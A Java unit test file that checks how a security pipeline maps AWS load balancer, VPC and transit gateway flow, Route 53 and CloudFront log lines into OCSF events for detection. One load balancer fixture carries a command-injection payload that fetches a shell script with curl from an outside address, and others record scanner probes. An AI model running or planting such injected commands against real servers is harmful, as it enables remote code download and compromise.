package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.epochMillis;
import static io.socaas.events.ocsf.MappedRecords.line;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * The variants of AWS's network logs that real accounts write besides the documented examples: load
 * balancer requests whose URL holds spaces (as scanners and exploits send them) and request lines the
 * load balancer could not read, Application Load Balancer connection logs of mutual TLS listeners;
 * flow records that say their direction, with their Amazon ECS fields and the reason a flow was
 * rejected, and transit gateway flow logs; Route 53 Resolver answers that reach an address through a
 * CNAME chain, and the query logs of Route 53's public hosted zones; CloudFront requests that came
 * through a proxy, with the user agent CloudFront percent-encodes.
 */
class AwsLoadBalancerFlowAndDnsLogVariantsMappingsTest {

    private static final String ELB = "Elastic Load Balancing";

    @Test
    void aRequestWhoseUrlHoldsSpacesIsReadWholeUpToTheHttpVersion() throws Exception {
        JsonNode r = line(
                "http 2026-03-01T09:41:12.512300Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.71:51000 - -1 -1 -1 400 - 188 320"
                        + " \"GET http://198.51.100.10:80/cgi-bin/run?cmd=cd /tmp; curl -O http://203.0.113.99/x.sh HTTP/1.1\""
                        + " \"Mozilla/5.0 zgrab/0.x\" - - - \"Root=1-65e1a0b8-0a1b2c3d4e5f60718293a4b5\" \"-\" \"-\" 0"
                        + " 2026-03-01T09:41:12.512000Z \"-\" \"-\" \"-\" \"-\" \"-\" \"Ambiguous\" \"SpaceInUri\" TID_0a1b2c3d4e5f60718293a4b5c6d7e8f9");
        assertProduct(r, ELB);
        assertThat(r.get("class_uid").asInt()).isEqualTo(4002);
        assertThat(r.get("activity_id").asInt()).isEqualTo(3);
        assertThat(r.at("/http_request/url/url_string").asText())
                .isEqualTo("http://198.51.100.10:80/cgi-bin/run?cmd=cd /tmp; curl -O http://203.0.113.99/x.sh");
        assertThat(r.at("/http_request/url/path").asText()).isEqualTo("/cgi-bin/run");
        assertThat(r.at("/http_request/url/query_string").asText())
                .isEqualTo("cmd=cd /tmp; curl -O http://203.0.113.99/x.sh");
        assertThat(r.at("/http_request/version").asText()).isEqualTo("HTTP/1.1");
        assertThat(r.at("/http_request/user_agent").asText()).isEqualTo("Mozilla/5.0 zgrab/0.x");
        assertThat(r.at("/http_response/code").asInt()).isEqualTo(400);
        assertThat(r.at("/connection_info/uid").asText()).isEqualTo("TID_0a1b2c3d4e5f60718293a4b5c6d7e8f9");
        // the load balancer's desync classification is kept for detection
        assertThat(r.at("/unmapped/classification").asText()).isEqualTo("Ambiguous");
        assertThat(r.at("/unmapped/classificationReason").asText()).isEqualTo("SpaceInUri");

        // a URL without spaces still ends at the space before the version
        JsonNode plain = line(
                "https 2026-03-01T09:41:13.000001Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.72:51001 10.0.4.20:8080 0.001 0.020 0.000 200 200 90 1200"
                        + " \"POST https://shop.example.com:443/api/cart?id=42 HTTP/2.0\" \"okhttp/4.12\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"
                        + " arn:aws:elasticloadbalancing:eu-west-1:210987654321:targetgroup/shop/1a2b3c4d5e6f7a8b \"Root=1-65e1a0b9-1a2b3c4d5e6f708192a3b4c5\""
                        + " \"shop.example.com\" \"arn:aws:acm:eu-west-1:210987654321:certificate/0000aaaa-1111-2222-3333-444455556666\" 1"
                        + " 2026-03-01T09:41:12.980000Z \"forward\" \"-\" \"-\" \"10.0.4.20:8080\" \"200\" \"-\" \"-\"");
        assertThat(plain.get("activity_id").asInt()).isEqualTo(6);
        assertThat(plain.at("/http_request/url/query_string").asText()).isEqualTo("id=42");
        assertThat(plain.at("/http_request/version").asText()).isEqualTo("HTTP/2.0");
        assertThat(plain.at("/dst_endpoint/port").asInt()).isEqualTo(8080);
        assertThat(plain.has("connection_info")).isFalse();
    }

    @Test
    void aRequestLineTheLoadBalancerCouldNotReadIsHttpActivityOther() throws Exception {
        JsonNode r = line(
                "http 2026-03-01T09:42:00.100000Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.73:51002 - -1 -1 -1 400 - 0 272"
                        + " \"- http://shop-alb-123.eu-west-1.elb.amazonaws.com:80- \" \"-\" - - - \"-\" \"-\" \"-\" - 2026-03-01T09:42:00.090000Z"
                        + " \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" TID_11112222333344445555666677778888");
        assertProduct(r, ELB);
        assertThat(r.get("class_uid").asInt()).isEqualTo(4002);
        assertThat(r.get("activity_id").asInt()).isEqualTo(99);
        assertThat(r.at("/http_response/code").asInt()).isEqualTo(400);
        assertThat(r.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.73");
    }

    @Test
    void mutualTlsConnectionLogsAreNetworkActivityOpenOrFailWithTheClientCertificate() throws Exception {
        String conn = "2026-03-01T09:43:10.250000Z 198.51.100.33 50444 443 TLSv1.3 TLS_AES_128_GCM_SHA256 %s"
                + " \"CN=device-042,O=Example Fleet,C=DE\" NotBefore=2025-06-01T00:00:00Z;NotAfter=2027-06-01T00:00:00Z 5A2C0001 %s"
                + " TID_aaaabbbbccccddddeeeeffff00001111";
        JsonNode failed = line(conn.formatted("-", "Failed:ClientCertExpired"));
        assertProduct(failed, ELB);
        assertThat(failed.get("class_uid").asInt()).isEqualTo(4001);
        assertThat(failed.get("activity_id").asInt()).isEqualTo(4);
        assertThat(failed.get("status_id").asInt()).isEqualTo(2);
        assertThat(failed.get("status_detail").asText()).isEqualTo("ClientCertExpired");
        assertThat(failed.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:43:10.250Z"));
        assertThat(failed.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.33");
        assertThat(failed.at("/src_endpoint/port").asInt()).isEqualTo(50444);
        assertThat(failed.at("/dst_endpoint/port").asInt()).isEqualTo(443);
        assertThat(failed.at("/tls/version").asText()).isEqualTo("TLSv1.3");
        assertThat(failed.at("/tls/certificate/subject").asText()).isEqualTo("CN=device-042,O=Example Fleet,C=DE");
        assertThat(failed.at("/tls/certificate/serial_number").asText()).isEqualTo("5A2C0001");
        assertThat(failed.at("/connection_info/uid").asText()).isEqualTo("TID_aaaabbbbccccddddeeeeffff00001111");

        JsonNode verified = line(conn.formatted("2.115", "Success"));
        assertThat(verified.get("activity_id").asInt()).isEqualTo(1);
        assertThat(verified.get("status_id").asInt()).isEqualTo(1);
        assertThat(verified.has("status_detail")).isFalse();

        JsonNode plain = line(
                "2026-03-01T09:43:11.000000Z 10.0.7.15 40112 80 - - - \"-\" - - - TID_aaaabbbbccccddddeeeeffff00002222");
        assertThat(plain.get("class_uid").asInt()).isEqualTo(4001);
        assertThat(plain.get("activity_id").asInt()).isEqualTo(1);
        assertThat(plain.has("status_id")).isFalse();

        // the same fields without the quoted subject or the verification status are not a connection log
        assertThat(line("2026-03-01T09:43:12.000000Z 10.0.7.15 40112 80 TLSv1.2 AES128-SHA 1.0 CN=x - - Success")
                        .at("/metadata/product/name")
                        .asText())
                .isNotEqualTo(ELB);
        assertThat(line("2026-03-01T09:43:12.000000Z 10.0.7.15 40112 80 TLSv1.2 AES128-SHA 1.0 \"CN=x\" - - Maybe")
                        .at("/metadata/product/name")
                        .asText())
                .isNotEqualTo(ELB);
    }

    @Test
    void flowRecordsNameTheInterfaceOnTheEndTheirDirectionSaysWithEcsFieldsAndTheRejectReason() throws Exception {
        // the console's "all fields" order of version 8: the default fields, the newer ones, ECS's, reject-reason
        String v8 = "8 210987654321 eni-0aa11bb22cc33dd44 %s %s %d %d 6 12 3400 1772359080 1772359140 %s OK"
                + " vpc-0123456789abcdef0 subnet-0fedcba9876543210 i-0a1b2c3d4e5f60718 2 IPv4 %s %s eu-central-1 euc1-az2 - - - -"
                + " %s 1 arn:aws:ecs:eu-central-1:210987654321:cluster/payments payments"
                + " arn:aws:ecs:eu-central-1:210987654321:container-instance/payments/0a1b2c3d4e5f a1b2c3d4e5f6"
                + " 0f0e0d0c0b0a-1 - billing-api arn:aws:ecs:eu-central-1:210987654321:task-definition/billing:7"
                + " arn:aws:ecs:eu-central-1:210987654321:task/payments/9f8e7d6c5b4a 9f8e7d6c5b4a %s";
        JsonNode in = line(v8.formatted(
                "198.51.100.50", "10.40.1.20", 51515, 5432, "REJECT", "198.51.100.50", "10.40.1.20", "ingress", "BPA"));
        assertProduct(in, "Amazon VPC");
        MappedRecords.assertFlow(in, 5, "198.51.100.50", 51515, "10.40.1.20", 5432);
        MappedRecords.assertDenied(in);
        assertThat(in.get("status_detail").asText()).isEqualTo("BPA");
        assertThat(in.at("/dst_endpoint/interface_uid").asText()).isEqualTo("eni-0aa11bb22cc33dd44");
        assertThat(in.at("/dst_endpoint/instance_uid").asText()).isEqualTo("i-0a1b2c3d4e5f60718");
        assertThat(in.at("/dst_endpoint/vpc_uid").asText()).isEqualTo("vpc-0123456789abcdef0");
        assertThat(in.at("/src_endpoint/interface_uid").isMissingNode()).isTrue();
        assertThat(in.at("/device/interface_uid").asText()).isEqualTo("eni-0aa11bb22cc33dd44");
        assertThat(in.at("/unmapped/ecsServiceName").asText()).isEqualTo("billing-api");
        assertThat(in.at("/unmapped/ecsTaskId").asText()).isEqualTo("9f8e7d6c5b4a");

        JsonNode out = line(v8.formatted(
                "10.40.1.20", "203.0.113.200", 40404, 443, "ACCEPT", "10.40.1.20", "203.0.113.200", "egress", "-"));
        MappedRecords.assertFlow(out, 6, "10.40.1.20", 40404, "203.0.113.200", 443);
        MappedRecords.assertAllowed(out);
        assertThat(out.at("/src_endpoint/subnet_uid").asText()).isEqualTo("subnet-0fedcba9876543210");
        assertThat(out.at("/dst_endpoint/interface_uid").isMissingNode()).isTrue();
        assertThat(out.has("status_detail")).isFalse();
    }

    @Test
    void transitGatewayFlowLogsAreTrafficBetweenTheirVpcs() throws Exception {
        String tgw =
                "6 TransitGateway 210987654321 tgw-0f1e2d3c4b5a69788 tgw-attach-0a0b0c0d0e0f10203 210987654321 109876543210"
                        + " vpc-0aaa1111bbbb2222c vpc-0ddd3333eeee4444f subnet-0a1a2a3a4a5a6a7a8 subnet-0b1b2b3b4b5b6b7b8"
                        + " eni-0c1c2c3c4c5c6c7c8 eni-0d1d2d3d4d5d6d7d8 euc1-az1 euc1-az3 tgw-attach-0f0e0d0c0b0a09080"
                        + " 10.50.3.7 10.60.8.9 49152 3389 6 40 9120 1772359080 1772359140 %s IPv4 0 0 0 0 2 eu-central-1 egress - -";
        JsonNode r = line(tgw.formatted("OK"));
        assertProduct(r, "Amazon VPC");
        MappedRecords.assertFlow(r, 6, "10.50.3.7", 49152, "10.60.8.9", 3389);
        assertThat(r.has("action_id")).isFalse();
        assertThat(r.get("time").asLong()).isEqualTo(1772359080000L);
        assertThat(r.at("/traffic/bytes").asLong()).isEqualTo(9120);
        assertThat(r.at("/src_endpoint/vpc_uid").asText()).isEqualTo("vpc-0aaa1111bbbb2222c");
        assertThat(r.at("/dst_endpoint/vpc_uid").asText()).isEqualTo("vpc-0ddd3333eeee4444f");
        assertThat(r.at("/dst_endpoint/interface_uid").asText()).isEqualTo("eni-0d1d2d3d4d5d6d7d8");
        assertThat(r.at("/dst_endpoint/zone").asText()).isEqualTo("euc1-az3");
        assertThat(r.at("/device/uid").asText()).isEqualTo("tgw-0f1e2d3c4b5a69788");
        assertThat(r.at("/device/interface_uid").asText()).isEqualTo("tgw-attach-0a0b0c0d0e0f10203");
        assertThat(r.at("/cloud/region").asText()).isEqualTo("eu-central-1");
        assertThat(r.at("/connection_info/direction").asText()).isEqualTo("egress");

        MappedRecords.assertBaseEventOf(line(tgw.formatted("NODATA")), "Amazon VPC");
        // a gateway that is not a transit gateway's is not read as one
        assertThat(line(tgw.formatted("OK").replace("tgw-0f1e2d3c4b5a69788", "igw-0f1e2d3c4b5a69788"))
                        .get("class_uid")
                        .asInt())
                .isNotEqualTo(4001);
    }

    @Test
    void aResolverAnswerNamesTheAddressItsCnameChainLedTo() throws Exception {
        JsonNode r = MappedRecords.json("""
                {"version": "1.100000", "account_id": "210987654321", "region": "eu-central-1", "vpc_id": "vpc-0123456789abcdef0",
                 "query_timestamp": "2026-03-01T09:50:00Z", "query_name": "updates.vendor.example.", "query_type": "A",
                 "query_class": "IN", "rcode": "NOERROR", "answers": [
                   {"Rdata": "updates.cdn.vendor.example.", "Type": "CNAME", "Class": "IN"},
                   {"Rdata": "edge-7.cdn.vendor.example.", "Type": "CNAME", "Class": "IN"},
                   {"Rdata": "198.51.100.145", "Type": "A", "Class": "IN"}],
                 "srcaddr": "10.40.1.20", "srcport": "53211", "transport": "UDP", "srcids": {"instance": "i-0a1b2c3d4e5f60718"}}""");
        assertProduct(r, "Amazon Route 53 Resolver");
        assertThat(r.at("/answers/0/rdata").asText()).isEqualTo("198.51.100.145");
        assertThat(r.at("/answers/0/type").asText()).isEqualTo("A");
        // without an address among the answers, the first answer
        JsonNode ptr = MappedRecords.json("""
                {"version": "1.100000", "account_id": "210987654321", "region": "eu-central-1", "vpc_id": "vpc-0123456789abcdef0",
                 "query_timestamp": "2026-03-01T09:50:01Z", "query_name": "20.1.40.10.in-addr.arpa.", "query_type": "PTR",
                 "query_class": "IN", "rcode": "NOERROR", "answers": [{"Rdata": "ip-10-40-1-20.ec2.internal.", "Type": "PTR", "Class": "IN"}],
                 "srcaddr": "10.40.1.21", "srcport": "53212", "transport": "UDP", "srcids": {}}""");
        assertThat(ptr.at("/answers/0/rdata").asText()).isEqualTo("ip-10-40-1-20.ec2.internal.");
        assertThat(ptr.at("/answers/0/type").asText()).isEqualTo("PTR");
    }

    @Test
    void publicHostedZoneQueryLogsAreDnsResponsesToTheResolverThatAsked() throws Exception {
        JsonNode r = line(
                "1.0 2026-03-01T09:51:02.417Z Z0123456789ABCDEFGHIJ vpn.corp.example A NXDOMAIN UDP FRA56-P3 198.51.100.9 203.0.113.0/24");
        assertProduct(r, "Amazon Route 53");
        assertThat(r.get("class_uid").asInt()).isEqualTo(4003);
        assertThat(r.get("activity_id").asInt()).isEqualTo(2);
        assertThat(r.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:51:02.417Z"));
        assertThat(r.at("/query/hostname").asText()).isEqualTo("vpn.corp.example");
        assertThat(r.at("/query/type").asText()).isEqualTo("A");
        assertThat(r.get("rcode_id").asInt()).isEqualTo(3);
        assertThat(r.get("rcode").asText()).isEqualTo("NXDomain");
        assertThat(r.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.9");
        assertThat(r.at("/connection_info/protocol_name").asText()).isEqualTo("UDP");
        assertThat(r.at("/unmapped/hostedZoneId").asText()).isEqualTo("Z0123456789ABCDEFGHIJ");
        assertThat(r.at("/unmapped/edgeLocation").asText()).isEqualTo("FRA56-P3");

        JsonNode tcp = line(
                "1.0 2026-03-01T09:51:03.001Z Z0123456789ABCDEFGHIJ corp.example TXT NOERROR TCP IAD89-C1 2001:db8::53 -");
        assertThat(tcp.get("rcode_id").asInt()).isZero();
        assertThat(tcp.at("/src_endpoint/ip").asText()).isEqualTo("2001:db8::53");

        // a line of the same length that names no hosted zone, or no transport, is not Route 53's
        assertThat(
                        line("1.0 2026-03-01T09:51:02.417Z X0123456789 vpn.corp.example A NXDOMAIN UDP FRA56-P3 198.51.100.9 -")
                                .at("/metadata/product/name")
                                .asText())
                .isNotEqualTo("Amazon Route 53");
        assertThat(
                        line("1.0 2026-03-01T09:51:02.417Z Z0123456789 vpn.corp.example A NXDOMAIN QUIC FRA56-P3 198.51.100.9 -")
                                .at("/metadata/product/name")
                                .asText())
                .isNotEqualTo("Amazon Route 53");
    }

    @Test
    void cloudFrontRequestsNameTheViewerBehindAProxyAndTheirUserAgentAsSent() throws Exception {
        String request = String.join(
                "\t",
                "2026-03-01",
                "09:52:10",
                "FRA56-P3",
                "5120",
                "198.51.100.200",
                "GET",
                "d3example0abcd.cloudfront.net",
                "/wp-login.php",
                "200",
                "-",
                "Mozilla/5.0%20(compatible;%20Nmap%20Scripting%20Engine;%20https://nmap.org/book/nse.html)",
                "log=admin",
                "-",
                "Miss",
                "Qx0example0requestid0AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
                "www.shop.example",
                "https",
                "410",
                "0.120",
                "FORWARDED",
                "TLSv1.3",
                "TLS_AES_128_GCM_SHA256",
                "Miss",
                "HTTP/2.0",
                "-",
                "-",
                "44120",
                "0.118",
                "Miss",
                "text/html",
                "5120",
                "-",
                "-");
        JsonNode proxied = line(request.replace("FORWARDED", "203.0.113.17, 198.51.100.200"));
        assertProduct(proxied, "CloudFront");
        assertThat(proxied.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.200");
        assertThat(proxied.at("/http_request/x_forwarded_for/0").asText()).isEqualTo("203.0.113.17");
        assertThat(proxied.at("/http_request/user_agent").asText())
                .isEqualTo("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)");
        assertThat(proxied.at("/unmapped/userAgent").asText()).startsWith("Mozilla/5.0 (compatible; Nmap");
        assertThat(proxied.at("/raw_data").asText()).contains("Nmap%20Scripting%20Engine");
        // a forwarded-for that names no address (a host and port) is no client address
        assertThat(line(request.replace("FORWARDED", "localhost:8080"))
                        .at("/http_request/x_forwarded_for")
                        .isMissingNode())
                .isTrue();
        assertThat(line(request.replace("FORWARDED", "-"))
                        .at("/http_request/x_forwarded_for")
                        .isMissingNode())
                .isTrue();
    }
}
